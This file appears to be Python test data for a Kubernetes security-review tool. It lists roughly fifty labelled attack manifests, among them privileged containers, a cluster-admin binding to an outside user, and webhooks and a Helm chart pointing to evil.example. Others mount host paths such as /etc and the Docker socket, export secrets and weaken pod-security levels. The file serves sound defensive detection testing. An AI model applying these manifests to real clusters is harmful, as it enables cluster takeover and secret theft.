"""Attacks on content that were made for klepaas: the same powers in places where nobody looks."""

import json

from .attack_content import (
    APPS,
    CORE,
    LABELS,
    RBAC,
    account,
    annotated,
    attack,
    binding,
    group,
    namespace,
    obj,
    role,
    rule,
    secure,
    service,
    user,
    volume,
    web,
)

PRIVILEGED = {"name": "c", "image": "evil/x:1", "securityContext": {"privileged": True}}
POD = obj(CORE, "Pod", spec={"containers": [PRIVILEGED]})
FINISHED = obj("batch/v1", "Job", spec={"template": {"spec": {
    "restartPolicy": "Never", "containers": [{"name": "j", "image": "example/app:1"}]}}})  # fmt: skip
JOB_THAT_ENDS = {**FINISHED, "spec": {**FINISHED["spec"], "ttlSecondsAfterFinished": 0}}
TARGET = {"apiVersion": "apps/v1", "kind": "Deployment", "name": "web"}
SCALED = obj(
    "autoscaling/v2", "HorizontalPodAutoscaler", spec={"minReplicas": 2, "maxReplicas": 9, "scaleTargetRef": TARGET}
)
STORED = {"name": "v1", "served": True, "storage": True, "schema": {"openAPIV3Schema": {"type": "object"}}}
CRD = obj(
    "apiextensions.k8s.io/v1",
    "CustomResourceDefinition",
    "tests.x.example.dev",
    spec={
        "group": "x.example.dev",
        "scope": "Namespaced",
        "names": {"plural": "tests", "kind": "Test"},
        "versions": [STORED],
    },
)
EVERYBODY = [user(f"reader-{number}") for number in range(30)]
PODS = {"apiGroups": [""], "apiVersions": ["v1"]}
THING = "example.dev/v1"

OUR_OWN = (
    attack(
        "a template deep inside of a custom resource",
        obj(THING, "Application", spec={"components": [{"workload": {"pods": {"containers": [PRIVILEGED]}}}]}),
        fact="containers[c].securityContext.privileged",
    ),
    attack(
        "an object inside of an object",
        obj("kubernetes.crossplane.io/v1alpha2", "Object", spec={"forProvider": {"manifest": POD}}),
        fact="Pod a container that controls its node",
    ),
    attack(
        "an object as a text inside of a custom resource",
        obj(THING, "Application", spec={"template": json.dumps(POD)}),
        fact="Pod a container that controls its node",
    ),
    attack(
        "a binding inside of a ConfigMap",
        obj(CORE, "ConfigMap", data={"install.yaml": json.dumps(binding("ClusterRole", "cluster-admin", user("eve")))}),
        fact="to User eve",
    ),
    attack(
        "a chart for a controller that administers",
        obj("helm.cattle.io/v1", "HelmChart", spec={"chart": "https://evil.example/x.tgz", "valuesContent": "a: 1"}),
        fact="https://evil.example/x.tgz",
    ),
    attack(
        "a step of a pipeline",
        obj("tekton.dev/v1", "TaskRun", spec={"taskSpec": {"steps": [PRIVILEGED]}}),
        fact="somebody else creates what it names",
    ),
    attack(
        "the subject that matters is the last of many",
        binding("ClusterRole", "view", *EVERYBODY, group("system:unauthenticated")),
        fact="system:unauthenticated (everybody, without signing in)",
    ),
    attack(
        "the role is in the same call",
        role(rule("impersonate", "users groups"), name="harmless"),
        binding("ClusterRole", "harmless", account("web")),
        fact="impersonate on users, groups",
    ),
    attack(
        "the role comes later",
        binding("Role", "later", account("web"), kind="RoleBinding"),
        fact="whatever Role later will say",
    ),
    attack(
        "a name is taken off a rule",
        role({**rule("get", "secrets")}, kind="Role", name="one"),
        there=(
            role({**rule("get", "secrets"), "resourceNames": ["a"]}, kind="Role", name="one"),
            binding("Role", "one", account("web"), kind="RoleBinding"),
        ),
        fact="get on secrets to ServiceAccount default/web",
    ),
    attack(
        "a role that collects others",
        obj(RBAC, "ClusterRole", "all", aggregationRule={"clusterRoleSelectors": [{"matchLabels": {"team": "x"}}]}),
        fact="collects the rules of every ClusterRole with team=x",
    ),
    attack(
        "a subject is added to a binding",
        binding("ClusterRole", "edit", account("web"), user("eve")),
        there=binding("ClusterRole", "edit", account("web")),
        fact="to User eve",
    ),
    attack(
        "all is stopped by a number",
        {**web(), "spec": {**web()["spec"], "replicas": 0}},
        there=web(),
        fact="stops what runs (spec.replicas: 0)",
    ),
    attack(
        "an autoscaler stops the rest",
        {**SCALED, "spec": {**SCALED["spec"], "minReplicas": 1, "maxReplicas": 1}},
        there=SCALED,
        fact="an autoscaler stops what is beyond 1",
    ),
    attack(
        "updates are paused",
        {**web(), "spec": {**web()["spec"], "paused": True}},
        there=web(),
        fact="spec.paused: true",
    ),
    attack(
        "a finished job deletes itself with its log", JOB_THAT_ENDS, there=FINISHED, fact="ttlSecondsAfterFinished: 0"
    ),
    attack(
        "a janitor deletes it",
        annotated("ConfigMap", CORE, "janitor/ttl", "1s", data={"a": "2"}),
        there=obj(CORE, "ConfigMap", data={"a": "1"}),
        fact="deletes it when its time is over",
    ),
    attack(
        "somebody's source does not hold it",
        annotated("ConfigMap", CORE, "argocd.argoproj.io/tracking-id", "other:/ConfigMap:default/web", data={"a": "1"}),
        fact="takes it for its own",
    ),
    attack(
        "the next kubectl apply removes fields",
        annotated(
            "ConfigMap", CORE, "kubectl.kubernetes.io/last-applied-configuration", '{"data":{"a":"1"}}', data={"b": "1"}
        ),
        there=obj(CORE, "ConfigMap", data={"b": "1"}),
        fact="`kubectl apply` removes",
    ),
    attack(
        "the history of a Deployment goes",
        {**web(), "spec": {**web()["spec"], "revisionHistoryLimit": 0}},
        there=web(),
        fact="deletes the history",
    ),
    attack(
        "a definition keeps what nobody described",
        {
            **CRD,
            "spec": {
                **CRD["spec"],
                "versions": [
                    {
                        **CRD["spec"]["versions"][0],
                        "schema": {"openAPIV3Schema": {"type": "object", "x-kubernetes-preserve-unknown-fields": True}},
                    }
                ],
            },
        },
        there=CRD,
        fact="what the objects of a kind hold and keep",
    ),
    attack(
        "a definition's objects pass through somebody else",
        {
            **CRD,
            "spec": {
                **CRD["spec"],
                "conversion": {
                    "strategy": "Webhook",
                    "webhook": {"conversionReviewVersions": ["v1"], "clientConfig": {"url": "https://evil.example"}},
                },
            },
        },
        fact="passes through https://evil.example",
    ),
    attack(
        "a webhook that changes what others send",
        obj(
            "admissionregistration.k8s.io/v1",
            "MutatingWebhookConfiguration",
            "x",
            webhooks=[
                {
                    "name": "a.b.c",
                    "failurePolicy": "Ignore",
                    "clientConfig": {"url": "https://evil.example"},
                    "rules": [{"operations": ["CREATE"], **PODS, "resources": ["pods"]}],
                    "sideEffects": "None",
                    "admissionReviewVersions": ["v1"],
                }
            ],
        ),
        fact="calls https://evil.example for CREATE of pods",
    ),
    attack(
        "an admission policy allows more",
        obj(
            "admissionregistration.k8s.io/v1",
            "ValidatingAdmissionPolicy",
            "p",
            spec={
                "failurePolicy": "Ignore",
                "validations": [{"expression": "true"}],
                "matchConstraints": {
                    "resourceRules": [
                        {"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["pods"]}
                    ]
                },
            },
        ),
        fact="decides what the cluster accepts",
    ),
    attack(
        "a namespace's webhooks are passed by",
        namespace("shop", **{"admission.gatekeeper.sh/ignore": "true"}),
        there=namespace("shop"),
        fact="admission webhooks leave it out",
    ),
    attack(
        "a pod on a node past its taints", web(nodeName="control-plane-1"), fact="past the scheduler and its taints"
    ),
    attack(
        "a pod that tolerates everything", web(tolerations=[{"operator": "Exists"}]), fact="nodes of the control plane"
    ),
    attack("the network of the node", web(hostNetwork=True), fact="hostNetwork: true"),
    attack(
        "a port of the node",
        web(container={"ports": [{"containerPort": 80, "hostPort": 443}]}),
        fact="a port of the node",
    ),
    attack(
        "a protection is switched off in an update",
        web(container=secure(allowPrivilegeEscalation=True, runAsUser=0)),
        there=web(container=secure(allowPrivilegeEscalation=False)),
        fact="a process may gain privileges",
    ),
    attack(
        "another service account",
        web(serviceAccountName="deployer"),
        there=web(),
        fact="the rights of ServiceAccount default/deployer, not of default",
    ),
    attack(
        "another image in a privileged container",
        web("evil/x:1", secure(privileged=True)),
        there=web(container=secure(privileged=True)),
        fact="another image, evil/x:1, gets what container web may: privileged",
    ),
    attack(
        "a claim by name to a path of a node",
        obj(
            CORE,
            "PersistentVolumeClaim",
            "data",
            spec={"volumeName": "pv", "accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "1Gi"}}},
        ),
        there=obj(
            CORE,
            "PersistentVolume",
            "pv",
            spec={"capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteOnce"], "hostPath": {"path": "/etc"}},
        ),
        fact="PersistentVolume pv of claim data: /etc",
    ),
    attack(
        "a lasting token of an account",
        obj(
            CORE,
            "Secret",
            "t",
            type="kubernetes.io/service-account-token",
            metadata={"annotations": {"kubernetes.io/service-account.name": "admin"}},
        ),
        there=obj(CORE, "ServiceAccount", "admin"),
        fact="lasting token of ServiceAccount default/admin",
    ),
    attack(
        "traffic goes to other pods", service(selector={"app": "evil"}), there=service(), fact="to other pods: app=evil"
    ),
    attack("a Service is opened to outside", service(type="LoadBalancer"), there=service(), fact="type LoadBalancer"),
    attack(
        "another namespace may be referred to",
        obj("gateway.networking.k8s.io/v1beta1", "ReferenceGrant", spec={"from": []}),
        fact="how proxies treat traffic",
    ),
    attack(
        "secrets are sent away",
        obj("external-secrets.io/v1alpha1", "PushSecret", spec={"data": []}),
        fact="sends secrets out of the cluster",
    ),
    attack(
        "a Secret is copied to all namespaces",
        annotated(
            "Secret", CORE, "reflector.v1.k8s.emberstack.com/reflection-auto-enabled", "true", data={"a": "MQ=="}
        ),
        fact="copied to other namespaces",
    ),
    attack(
        "the rights of a controller in a ConfigMap",
        obj(CORE, "ConfigMap", "argocd-rbac-cm", data={"policy.default": "role:admin"}),
        fact="configures a part of the cluster",
    ),
    attack(
        "paths of a node for all pods of a set",
        obj(
            APPS,
            "StatefulSet",
            spec={
                "serviceName": "web",
                "selector": {"matchLabels": LABELS},
                "template": {
                    "metadata": {"labels": LABELS},
                    "spec": {
                        "containers": [{"name": "c", "image": "x"}],
                        **volume({"hostPath": {"path": "/var/run/docker.sock"}}),
                    },
                },
            },
        ),
        fact="/var/run/docker.sock",
    ),
    attack(
        "a queue of the API server",
        obj(
            "flowcontrol.apiserver.k8s.io/v1",
            "FlowSchema",
            "x",
            spec={"priorityLevelConfiguration": {"name": "exempt"}},
        ),
        fact="holds for the whole cluster",
    ),
    attack(
        "another runtime for all",
        obj("node.k8s.io/v1", "RuntimeClass", "x", handler="runc"),
        fact="holds for the whole cluster",
    ),
    attack(
        "an object of the cluster's DNS",
        obj(CORE, "ConfigMap", "coredns", namespace="kube-system", data={"Corefile": ".:53 { forward . 8.8.8.8 }"}),
        fact="ConfigMap coredns of the cluster itself",
    ),
    attack(
        "a token of the account in a volume",
        web(**volume({"projected": {"sources": [{"serviceAccountToken": {"path": "t"}}]}})),
        fact="a volume with a token",
    ),
    attack(
        "a filter of a mesh runs a script",
        obj("networking.istio.io/v1alpha3", "EnvoyFilter", spec={"configPatches": []}),
        fact="how proxies treat traffic",
    ),
    attack(
        "a claim of devices has access as an administrator",
        obj(
            "resource.k8s.io/v1",
            "ResourceClaim",
            spec={
                "devices": {"requests": [{"name": "gpu", "exactly": {"deviceClassName": "gpu", "adminAccess": True}}]}
            },
        ),
        fact="access to devices in use by others",
    ),
    attack(
        "an initial container sees what no container may",
        web(initContainers=[{"name": "i", "image": "evil/x:1", "securityContext": {"privileged": True}}]),
        fact="initContainers[i].securityContext.privileged",
    ),
    attack(
        "a namespace leaves the level of its pods",
        namespace("shop", **{"pod-security.kubernetes.io/enforce": "privileged"}),
        there=namespace("shop", **{"pod-security.kubernetes.io/enforce": "restricted"}),
        fact="pod-security.kubernetes.io/enforce restricted -> privileged",
    ),
)
